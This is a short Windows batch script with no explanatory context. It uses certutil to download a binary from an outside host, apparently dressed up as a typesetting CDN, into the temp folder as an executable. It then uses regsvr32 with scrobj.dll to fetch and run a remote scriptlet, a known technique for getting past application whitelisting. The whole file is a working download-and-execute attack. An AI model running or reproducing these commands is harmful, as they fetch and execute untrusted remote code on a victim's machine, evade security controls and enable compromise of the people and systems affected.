@echo off
certutil -urlcache -split -f https://cdn.typeset-kit.invalid/f.bin %TEMP%\f.exe
regsvr32 /s /n /u /i:https://cdn.typeset-kit.invalid/f.sct scrobj.dll
